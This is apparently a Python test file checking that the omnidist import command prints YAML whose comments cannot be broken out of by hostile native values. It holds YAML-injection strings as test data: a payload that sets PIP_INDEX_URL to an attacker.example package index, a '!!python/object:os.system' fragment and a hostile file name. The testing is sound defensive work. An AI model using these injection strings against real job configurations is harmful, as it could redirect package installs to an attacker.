"""``omnidist import`` prints a job that loads back to exactly the job it imported, whatever the
native file holds: every value goes through the YAML emitter and every remark through
:func:`~omnidist.model.serde.yaml_comment`, so a line break, a ``#``, a ``---`` or a Unicode line
separator in a native value cannot end a comment and add a key.

The property runs on every installed backend's importer: a native spec (each backend's own
compiled request, and the golden inputs), one string value replaced by a hostile string, imported;
what imports must print as YAML that loads back equal, with no key of its own.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any, Optional

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import omnidist
from omnidist import migration
from omnidist.backend import registry
from omnidist.errors import OmnidistError
from omnidist.migration.imports import import_job
from omnidist.model import serde
from omnidist.model.job import job_from_dict, job_from_yaml, job_to_yaml
from omnidist.testing.cli import run_cli
from omnidist.testing.harness import required_settings

GOLDEN_INPUTS = Path(__file__).parent / "golden" / "inputs"

PAYLOAD = "azureml:gpu-cluster\nenv: {PIP_INDEX_URL: 'https://attacker.example/simple'}\n#"
"""The attack from outside: a compute name that ends the comment it is quoted in and adds ``env``."""

FRAGMENTS = ["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029", "#", " # ", "---", "...", ": ", "- ", "{", "}", "[",
             "]", "&a ", "*a", "!!python/object:os.system", "'", '"', "\\", "\x00", "\x07", "\x1b[2J", "\t", "|",
             ">", "%YAML 1.1", "\ufeff", "\ud800", "env:", "\nenv: {A: b}\n", "x", "é", "😀", " "]
"""Pieces of the hostile strings: YAML structure, line breaks of every kind, control characters."""

hostile = st.one_of(
    st.just(PAYLOAD),
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8).map("".join),
    st.text(min_size=1, max_size=20),
)


def job_document() -> dict[str, Any]:
    return {"name": "hostile", "framework": "tensorflow", "image": "us-docker.pkg.dev/p/r/t:1",
            "command": ["python", "-m", "trainer.task"], "args": ["--epochs", "3"], "env": {"MODE": "fast"},
            "description": "a job", "labels": {"team": "ml"},
            "primary": {"accelerator": "T4:1"}, "workers": {"replicas": 2}, "parameter_servers": {"replicas": 1}}


def native_specs() -> Iterator[tuple[str, Any]]:
    """(backend, native spec) for every installed backend with an importer: its own compiled
    request, and the golden inputs of the backends that have some."""
    for name in registry.installed():
        if name == "local":
            continue
        try:
            compiled = omnidist.compile(job_from_dict(job_document()), backend=name, settings=required_settings(name))
        except OmnidistError:
            continue
        yield name, compiled.request
    for path in sorted(GOLDEN_INPUTS.iterdir()):
        source = next((b for b in registry.installed() if path.name.startswith(b)), None)
        if source:
            yield source, serde.read_document(path)


SPECS = list(native_specs())


def string_paths(value: Any, path: tuple = ()) -> Iterator[tuple]:
    """The path of every string in a native spec (keys of mappings included, as ``("key", k)``)."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*path, ("key", key))
            yield from string_paths(item, (*path, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from string_paths(item, (*path, i))
    elif isinstance(value, str):
        yield path


def replaced(value: Any, path: tuple, text: str, append: bool) -> Any:
    """A copy of ``value`` with the string at ``path`` replaced by (or followed by) ``text``."""
    if not path:
        return value + text if append else text
    step, rest = path[0], path[1:]
    if isinstance(step, tuple):  # a key of this mapping
        return {((k + text if append else text) if k == step[1] else k): v for k, v in value.items()}
    copy = list(value) if isinstance(value, list) else dict(value)
    copy[step] = replaced(value[step], rest, text, append)
    return copy


def test_every_backend_has_a_native_spec_to_attack():
    importers = {b for b in registry.installed() if b != "local"}
    assert importers <= {name for name, _ in SPECS}


def check_printed(job, entries, source) -> None:
    printed = migration.job_yaml_with_comments(job, entries, source, "native\nfile: x.yaml")
    again = job_from_yaml(printed, source="printed")
    assert again == job, printed
    assert again.to_dict() == job.to_dict()
    data = yaml.safe_load(printed)
    assert list(data) == list(yaml.safe_load(job_to_yaml(job))), "no key added by a comment"
    for line in printed.splitlines():
        assert "\u2028" not in line and "\x85" not in line


@pytest.mark.parametrize(("source", "spec"), SPECS, ids=[f"{s}-{i}" for i, (s, _) in enumerate(SPECS)])
@settings(max_examples=60, derandomize=True, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data(), text=hostile, append=st.booleans())
def test_an_imported_job_prints_as_yaml_that_loads_back_to_it(source, spec, data, text, append):
    paths = list(string_paths(spec))
    path = data.draw(st.sampled_from(paths))
    native = replaced(spec, path, text, append)
    try:
        job, _, entries = import_job(native, registry.get(source))
    except OmnidistError:
        return  # a clean refusal is fine; the fuzz suite checks refusals are clean
    check_printed(job, entries, source)


@pytest.mark.parametrize("text", [PAYLOAD, "x\u2028env: {A: b}", "x\x85env: {A: b}", "x\renv: {A: b}",
                                  "a\n---\nname: other", "x\x00y"])
def test_remarks_quoting_hostile_values_stay_comments(text):
    """Every remark the importers write quotes native values; none can add a key."""
    from omnidist.migration.report import Fidelity, ReportEntry

    job = job_from_dict(job_document())
    entries = [ReportEntry(fidelity=f, field=field, message=f"value {text} here")
               for f in (Fidelity.INFERRED, Fidelity.APPROXIMATED, Fidelity.DROPPED, Fidelity.CHANGED)
               for field in ("framework", "command", "description", "env", "primary.accelerator", "name")]
    check_printed(job, entries, "vertex")


def test_a_long_value_that_wraps_keeps_its_remark_out_of_it():
    """A remark on a value that runs over several lines goes above its key, not inside it."""
    from omnidist.migration.report import Fidelity, ReportEntry

    long_text = " ".join(["word"] * 60)
    job = job_from_dict({**job_document(), "description": long_text, "command": long_text})
    entries = [ReportEntry(fidelity=Fidelity.INFERRED, field=f, message="said # so")
               for f in ("description", "command")]
    printed = migration.job_yaml_with_comments(job, entries, "vertex", None)
    assert job_from_yaml(printed) == job
    assert "# inferred: said # so\ndescription: word" in printed


def test_a_compute_name_of_two_lines_is_refused_as_a_name(tmp_path):
    spec = tmp_path / "job.yml"
    spec.write_text(yaml.safe_dump({"command": "python train.py", "environment": {"image": "python:3.11"},
                                    "compute": PAYLOAD}))
    done = run_cli("import", str(spec), "--from", "azure_ml")
    assert done.returncode == 2, done.stdout
    assert done.stderr.startswith(f"error: {spec}: compute: \"azureml:gpu-cluster\\nenv: "), done.stderr
    assert "one line of printable text" in done.stderr


@pytest.mark.parametrize("backend", sorted(b for b in registry.installed() if registry.get(b).client is not None))
def test_no_cloud_setting_holds_a_line_break(backend):
    """A profile or ``backends.<name>`` value with a line break or a control character is refused
    as a name, on every cloud backend (the check is the settings base class's)."""
    import attrs

    from omnidist.errors import ValidationError

    settings_type = registry.get(backend).settings_type
    free = [f.name for f in attrs.fields(settings_type)
            if f.default is None and f.validator is None and f.type in ("Optional[str]", Optional[str])]
    assert free, "a backend's settings hold some free-text name"
    for value in ("region-1\nenv: x", "a\u2028b", "a\x00b", "a\x85b"):
        for name in free:
            with pytest.raises(ValidationError, match=f"{name}: .* one line of printable text"):
                serde.structure({name: value}, settings_type)


def test_a_hostile_file_name_stays_in_its_comment(tmp_path):
    spec = tmp_path / "job\nenv: {A: b}\n#.json"
    spec.write_text('{"jobSpec": {"workerPoolSpecs": [{"machineSpec": {"machineType": "n1-standard-4"}, '
                    '"replicaCount": "1", "containerSpec": {"imageUri": "python:3.11", "command": ["python"]}}]}, '
                    '"displayName": "j"}')
    done = run_cli("import", str(spec), "--from", "vertex")
    assert done.returncode == 0, done.stderr
    assert job_from_yaml(done.stdout).env == {}
